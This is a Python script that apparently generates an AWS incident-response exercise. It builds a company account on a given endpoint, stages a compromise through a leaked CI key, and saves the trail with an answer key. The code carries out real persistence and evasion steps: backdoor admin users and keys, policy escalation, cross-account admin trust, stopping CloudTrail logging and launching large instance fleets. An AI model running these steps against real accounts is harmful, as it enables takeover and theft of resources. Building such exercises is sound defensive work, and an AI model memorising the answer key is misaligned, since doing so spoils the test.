"""Builds a company's account with boto3, compromises it, and writes the trail and what is true: compromise.py ENDPOINT FOLDER."""
import datetime
import io
import json
import os
import sys
import time
import zipfile

import boto3

from trail import Actor, Trail

ENDPOINT, FOLDER = sys.argv[1], sys.argv[2]
REGIONS = ["us-east-1", "eu-west-1", "ap-southeast-2"]
VPS, OFFICE, PARTNER = "203.0.113.66", "198.51.100.10", "999988887777"
EC2_TRUST = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}]})
OWN_POLICY = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]})
ADMIN = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})


def code():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.py", "def handler(event, context): return 1")
    return buffer.getvalue()


def session(key, secret):
    return boto3.Session(aws_access_key_id=key, aws_secret_access_key=secret)


def user_identity(account, user, key):
    return {"type": "IAMUser", "principalId": user["UserId"], "arn": user["Arn"], "accountId": account, "accessKeyId": key, "userName": user["UserName"]}


def image(client):
    return client.register_image(Name=f"base-{time.time_ns()}", RootDeviceName="/dev/xvda", Architecture="x86_64")["ImageId"]


admin_session = session("AKIAROOTROOTROOTROOT", "root")
account = admin_session.client("sts", endpoint_url=ENDPOINT, region_name="us-east-1").get_caller_identity()["Account"]
trail = Trail(account)
iam = admin_session.client("iam", endpoint_url=ENDPOINT, region_name="us-east-1")

# ---- the company
admin_user = iam.create_user(UserName="alice")["User"]
admin_key = iam.create_access_key(UserName="alice")["AccessKey"]
iam.attach_user_policy(UserName="alice", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
responder = iam.create_user(UserName="incident-responder")["User"]
responder_key = iam.create_access_key(UserName="incident-responder")["AccessKey"]
iam.attach_user_policy(UserName="incident-responder", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
ci_user = iam.create_user(UserName="ci-deploy")["User"]
leaked = iam.create_access_key(UserName="ci-deploy")["AccessKey"]
iam.put_user_policy(UserName="ci-deploy", PolicyName="deploy", PolicyDocument=OWN_POLICY)
bob = iam.create_user(UserName="bob")["User"]
bob_key = iam.create_access_key(UserName="bob")["AccessKey"]
iam.create_role(RoleName="web", AssumeRolePolicyDocument=EC2_TRUST)
policy_arn = iam.create_policy(PolicyName="app", PolicyDocument=OWN_POLICY)["Policy"]["Arn"]
iam.attach_role_policy(RoleName="web", PolicyArn=policy_arn)
iam.create_role(RoleName="app-lambda", AssumeRolePolicyDocument=EC2_TRUST.replace("ec2.", "lambda."))
owner = {"instances": {}, "functions": ["orders"], "users": ["alice", "bob", "ci-deploy", "incident-responder"], "keys": {"bob": bob_key["AccessKeyId"], "alice": admin_key["AccessKeyId"]}}
for region in REGIONS:
    ec2 = admin_session.client("ec2", endpoint_url=ENDPOINT, region_name=region)
    made = ec2.run_instances(ImageId=image(ec2), MinCount=1, MaxCount=2, InstanceType="t3.micro")["Instances"]
    owner["instances"][region] = [instance["InstanceId"] for instance in made]
admin_session.client("lambda", endpoint_url=ENDPOINT, region_name="us-east-1").create_function(
    FunctionName="orders", Runtime="python3.12", Role=f"arn:aws:iam::{account}:role/app-lambda", Handler="index.handler", Code={"ZipFile": code()})
s3 = admin_session.client("s3", endpoint_url=ENDPOINT, region_name="us-east-1")
s3.create_bucket(Bucket="company-trail")
cloudtrail = admin_session.client("cloudtrail", endpoint_url=ENDPOINT, region_name="us-east-1")
cloudtrail.create_trail(Name="company", S3BucketName="company-trail", IsMultiRegionTrail=True)
cloudtrail.start_logging(Name="company")

# ---- the compromise begins
time.sleep(2)
since = datetime.datetime.now(datetime.timezone.utc)
time.sleep(2)
alice = Actor(session(admin_key["AccessKeyId"], admin_key["SecretAccessKey"]), ENDPOINT, trail, user_identity(account, admin_user, admin_key["AccessKeyId"]), OFFICE, "aws-cli/2.17.0")
ci = Actor(session(leaked["AccessKeyId"], leaked["SecretAccessKey"]), ENDPOINT, trail, user_identity(account, ci_user, leaked["AccessKeyId"]), VPS, "Boto3/1.34.0")
ci.call("sts", "GetCallerIdentity")

# what the owner does meanwhile: must not be blamed
alice.call("iam", "CreateUser", UserName="new.joiner")
joiner_key = alice.call("iam", "CreateAccessKey", UserName="new.joiner")["AccessKey"]["AccessKeyId"]
owner["users"].append("new.joiner")
owner["keys"]["new.joiner"] = joiner_key
started = alice.call("ec2", "RunInstances", region="eu-west-1", ImageId=image(alice.client("ec2", "eu-west-1")), MinCount=1, MaxCount=1, InstanceType="t3.micro")
owner["instances"]["eu-west-1"].append(started["Instances"][0]["InstanceId"])

# users, keys, policies
planted = {"users": ["aws-support"], "keys": [], "instances": {}, "spot": {}, "functions": ["telemetry"], "roles": ["OrgAudit"], "groups": {}}
support = ci.call("iam", "CreateUser", UserName="aws-support")["User"]
support_key = ci.call("iam", "CreateAccessKey", UserName="aws-support")["AccessKey"]
ci.call("iam", "CreateLoginProfile", UserName="aws-support", Password="Kx7!aaaaBBBB99")
ci.call("iam", "AttachUserPolicy", UserName="aws-support", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
attacker = Actor(session(support_key["AccessKeyId"], support_key["SecretAccessKey"]), ENDPOINT, trail, user_identity(account, support, support_key["AccessKeyId"]), VPS, "Boto3/1.34.0")
planted["keys"].append(["bob", attacker.call("iam", "CreateAccessKey", UserName="bob")["AccessKey"]["AccessKeyId"]])
attacker.call("iam", "PutUserPolicy", UserName="ci-deploy", PolicyName="x7k2", PolicyDocument=ADMIN)
attacker.call("iam", "CreatePolicyVersion", PolicyArn=policy_arn, PolicyDocument=ADMIN, SetAsDefault=True)
attacker.call("iam", "UpdateAssumeRolePolicy", RoleName="web", PolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": json.loads(EC2_TRUST)["Statement"] + [
    {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{PARTNER}:root"}, "Action": "sts:AssumeRole"}]}))
attacker.call("iam", "CreateRole", RoleName="OrgAudit", AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [
    {"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{PARTNER}:root"}, "Action": "sts:AssumeRole"}]}))
attacker.call("iam", "AttachRolePolicy", RoleName="OrgAudit", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
attacker.call("cloudtrail", "StopLogging", Name="company")

# machines
for region in REGIONS:
    client = attacker.client("ec2", region)
    ami = image(client)
    attacker.call("ec2", "CreateKeyPair", region=region, KeyName="kp")
    group = attacker.call("ec2", "CreateSecurityGroup", region=region, GroupName="open", Description="open")["GroupId"]
    attacker.call("ec2", "AuthorizeSecurityGroupIngress", region=region, GroupId=group, IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
    planted["groups"][region] = group
    ids = [i["InstanceId"] for i in attacker.call("ec2", "RunInstances", region=region, ImageId=ami, MinCount=3, MaxCount=3, InstanceType="c5.24xlarge", KeyName="kp", SecurityGroupIds=[group])["Instances"]]
    attacker.call("ec2", "ModifyInstanceAttribute", region=region, InstanceId=ids[0], DisableApiTermination={"Value": True})
    planted["instances"][region] = ids
    spot = attacker.call("ec2", "RequestSpotInstances", region=region, InstanceCount=1, SpotPrice="9", LaunchSpecification={"ImageId": ami, "InstanceType": "p3.16xlarge"})["SpotInstanceRequests"][0]
    planted["spot"][region] = spot["SpotInstanceRequestId"]
    if spot.get("InstanceId"):
        planted["instances"][region].append(spot["InstanceId"])
east = attacker.client("ec2", "us-east-1")
template = attacker.call("ec2", "CreateLaunchTemplate", LaunchTemplateName="fleet", LaunchTemplateData={"ImageId": image(east), "InstanceType": "g5.48xlarge"})["LaunchTemplate"]["LaunchTemplateId"]
attacker.call("autoscaling", "CreateAutoScalingGroup", AutoScalingGroupName="fleet", MinSize=2, MaxSize=9, DesiredCapacity=2,
              LaunchTemplate={"LaunchTemplateId": template, "Version": "$Latest"}, AvailabilityZones=["us-east-1a"])
attacker.call("lambda", "CreateFunction", FunctionName="telemetry", Runtime="python3.12", Role=f"arn:aws:iam::{account}:role/app-lambda", Handler="index.handler", Code={"ZipFile": code()})
attacker.call("lambda", "AddPermission", FunctionName="telemetry", StatementId="open", Action="lambda:InvokeFunction", Principal="*")

os.makedirs(FOLDER, exist_ok=True)
trail.write(os.path.join(FOLDER, "trail"))
with open(os.path.join(FOLDER, "truth.json"), "w") as file:
    json.dump({"account": account, "leaked": leaked["AccessKeyId"], "since": since.strftime("%Y-%m-%dT%H:%M:%SZ"), "owner": owner, "planted": planted, "policy": policy_arn,
               "trust": json.loads(EC2_TRUST), "responder": {"key": responder_key["AccessKeyId"], "secret": responder_key["SecretAccessKey"], "arn": responder["Arn"]}}, file)
